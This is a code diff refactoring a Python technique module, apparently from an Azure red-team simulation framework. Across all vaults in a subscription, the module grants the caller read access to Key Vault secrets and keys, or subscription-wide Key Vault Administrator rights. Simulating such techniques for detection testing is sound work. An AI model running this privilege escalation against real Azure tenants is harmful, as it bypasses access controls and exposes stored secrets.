@@ -1,16 +1,9 @@
 from ..base_technique import BaseTechnique, ExecutionStatus, MitreTechnique, AzureTRMTechnique
 from ..technique_registry import TechniqueRegistry
-from typing import Dict, Any, Tuple
-from azure.keyvault.secrets import SecretClient
-from azure.keyvault.keys import KeyClient
-from azure.mgmt.keyvault import KeyVaultManagementClient
-from azure.mgmt.keyvault.models import AccessPolicyEntry, VaultAccessPolicyParameters, Permissions
-from azure.mgmt.authorization.models import RoleAssignmentCreateParameters
-from azure.mgmt.authorization import AuthorizationManagementClient
+from typing import Dict, Any, Tuple, List
 from core.azure.azure_access import AzureAccess
 
-import requests
-import uuid
+import concurrent.futures
 
 @TechniqueRegistry.register
 class AzureModifyKeyVaultAccess(BaseTechnique):
@@ -36,6 +29,10 @@ class AzureModifyKeyVaultAccess(BaseTechnique):
     def execute(self, **kwargs: Any) -> Tuple[ExecutionStatus, Dict[str, Any]]:
         self.validate_parameters(kwargs)
         try:
+            # Azure SDK imports are deferred to keep technique registration lightweight
+            from azure.mgmt.keyvault import KeyVaultManagementClient
+            import requests
+
             # Get credential
             credential = AzureAccess.get_azure_auth_credential()
             # Retrieve subscription id
@@ -46,71 +43,47 @@ class AzureModifyKeyVaultAccess(BaseTechnique):
             client = KeyVaultManagementClient(credential, subscription_id)
             
             token = credential.get_token("https://graph.microsoft.com/.default").token
-            headers = {'Authorization': f'Bearer {token}'}
-            user_response = requests.get('https://graph.microsoft.com/v1.0/me', headers=headers)
-            tenant_response = requests.get('https://graph.microsoft.com/v1.0/organization', headers=headers)
+            session = requests.Session()
+            session.headers.update({'Authorization': f'Bearer {token}'})
+
+            # Fetch user and tenant info in a single Graph batch request
+            batch_response = session.post('https://graph.microsoft.com/v1.0/$batch', json={
+                "requests": [
+                    {"id": "1", "method": "GET", "url": "/me"},
+                    {"id": "2", "method": "GET", "url": "/organization"}
+                ]
+            })
+            batch_response.raise_for_status()
+            responses = {response['id']: response for response in batch_response.json()['responses']}
             
             # Get user id
-            user = user_response.json()
+            user = responses['1']['body']
             user_object_id = user['id']
             
             # Get tenant id
-            tenant = tenant_response.json()
+            tenant = responses['2']['body']
             tenant_id = tenant['value'][0]['id']
             
             # Role definition ID for KeyVault Administrator
             role_definition_id = "00482a5a-887f-4fb3-b363-3b7fe8e74483"
+            # Scopes used for RBAC role assignment are the same for every vault
+            role_definition_scope = f"/subscriptions/{subscription_id}/providers/Microsoft.Authorization/roleDefinitions/{role_definition_id}"
+            subscription_scope = f"/subscriptions/{subscription_id}"
             
             result = {}
-            
-            for vault in client.vaults.list():
-                vault_name = vault.name
-                resource_group_name = vault.id.split("/")[4]
-                vault_messages = []
-                
-                try:
-                    # Check access to secrets and keys
-                    secret_client = SecretClient(vault_url=f"https://{vault_name}.vault.azure.net/", credential=credential)
-                    for secret in secret_client.list_properties_of_secrets():
-                        secret.name
+            vaults = list(client.vaults.list())
 
-                    key_client = KeyClient(vault_url=f"https://{vault_name}.vault.azure.net/", credential=credential)
-                    for key in key_client.list_properties_of_keys():
-                        key.name
-                    vault_messages.append(f"Key Vault {vault_name} ready")
+            if vaults:
+                # Vault checks are network bound, so process vaults in parallel
+                with concurrent.futures.ThreadPoolExecutor(max_workers=min(32, len(vaults))) as executor:
+                    # Results are collected in vault listing order
+                    vault_results = executor.map(
+                        lambda vault: self._process_vault(vault, credential, client, subscription_id, tenant_id, user_object_id, role_definition_scope, subscription_scope),
+                        vaults
+                    )
 
-                except Exception as e:
-                    if "ForbiddenByPolicy" in str(e) or "AccessDenied" in str(e):
-                        try:
-                            # Assign access policy if access is denied
-                            permissions = Permissions(keys=["get", "list"], secrets=["get", "list"], certificates=["get", "list"])
-                            access_policy = AccessPolicyEntry(tenant_id=tenant_id, object_id=user_object_id, permissions=permissions)
-                            vault = client.vaults.get(resource_group_name, vault_name)
-                            vault.properties.access_policies.append(access_policy)
-                            parameters = VaultAccessPolicyParameters(properties=vault.properties)
-                            client.vaults.update_access_policy(resource_group_name, vault_name, "add", parameters)
-                            vault_messages.append(f"Access policy added for {vault_name}")
-                        except Exception as e:
-                            vault_messages.append(f"Failed to add access policy for {vault_name}: {e}")
-                            
-                    elif "ForbiddenByRbac" in str(e):
-                        try:
-                            # Assign role if access is forbidden by RBAC
-                            auth_client = AuthorizationManagementClient(credential, subscription_id)
-                            role_assignment_params = RoleAssignmentCreateParameters(
-                                role_definition_id=f"/subscriptions/{subscription_id}/providers/Microsoft.Authorization/roleDefinitions/{role_definition_id}",
-                                principal_id=user_object_id
-                            )
-                            auth_client.role_assignments.create(
-                                scope=f"/subscriptions/{subscription_id}",
-                                role_assignment_name=str(uuid.uuid4()),
-                                parameters=role_assignment_params
-                            )
-                            vault_messages.append(f"KeyVault Administrator role assigned for {vault_name}")
-                        except Exception as e:
-                            vault_messages.append(f"Failed to add role for {vault_name}: {e}")
-                    
-                result[vault_name] = vault_messages
+                    for vault_name, vault_messages in vault_results:
+                        result[vault_name] = vault_messages
 
             return ExecutionStatus.SUCCESS, {
                 "message": f"Successfully modified key vault access",
@@ -122,5 +95,61 @@ class AzureModifyKeyVaultAccess(BaseTechnique):
                 "message": "Failed to modify key vault access"
             }
 
+    def _process_vault(self, vault, credential, client, subscription_id: str, tenant_id: str, user_object_id: str, role_definition_scope: str, subscription_scope: str) -> Tuple[str, List[str]]:
+        """Check access to a single key vault and attempt to grant access if denied"""
+        from azure.keyvault.secrets import SecretClient
+        from azure.keyvault.keys import KeyClient
+        from azure.mgmt.keyvault.models import AccessPolicyEntry, VaultAccessPolicyParameters, Permissions
+        from azure.mgmt.authorization.models import RoleAssignmentCreateParameters
+        from azure.mgmt.authorization import AuthorizationManagementClient
+        import uuid
+
+        vault_name = vault.name
+        resource_group_name = vault.id.split("/")[4]
+        vault_messages = []
+        vault_url = f"https://{vault_name}.vault.azure.net/"
+        
+        try:
+            # Check access to secrets and keys. Fetching the first page is enough to confirm access
+            secret_client = SecretClient(vault_url=vault_url, credential=credential)
+            next(iter(secret_client.list_properties_of_secrets()), None)
+
+            key_client = KeyClient(vault_url=vault_url, credential=credential)
+            next(iter(key_client.list_properties_of_keys()), None)
+            vault_messages.append(f"Key Vault {vault_name} ready")
+
+        except Exception as e:
+            if "ForbiddenByPolicy" in str(e) or "AccessDenied" in str(e):
+                try:
+                    # Assign access policy if access is denied
+                    permissions = Permissions(keys=["get", "list"], secrets=["get", "list"], certificates=["get", "list"])
+                    access_policy = AccessPolicyEntry(tenant_id=tenant_id, object_id=user_object_id, permissions=permissions)
+                    vault = client.vaults.get(resource_group_name, vault_name)
+                    vault.properties.access_policies.append(access_policy)
+                    parameters = VaultAccessPolicyParameters(properties=vault.properties)
+                    client.vaults.update_access_policy(resource_group_name, vault_name, "add", parameters)
+                    vault_messages.append(f"Access policy added for {vault_name}")
+                except Exception as e:
+                    vault_messages.append(f"Failed to add access policy for {vault_name}: {e}")
+                    
+            elif "ForbiddenByRbac" in str(e):
+                try:
+                    # Assign role if access is forbidden by RBAC
+                    auth_client = AuthorizationManagementClient(credential, subscription_id)
+                    role_assignment_params = RoleAssignmentCreateParameters(
+                        role_definition_id=role_definition_scope,
+                        principal_id=user_object_id
+                    )
+                    auth_client.role_assignments.create(
+                        scope=subscription_scope,
+                        role_assignment_name=str(uuid.uuid4()),
+                        parameters=role_assignment_params
+                    )
+                    vault_messages.append(f"KeyVault Administrator role assigned for {vault_name}")
+                except Exception as e:
+                    vault_messages.append(f"Failed to add role for {vault_name}: {e}")
+        
+        return vault_name, vault_messages
+
     def get_parameters(self) -> Dict[str, Dict[str, Any]]:
         return {}
\ No newline at end of file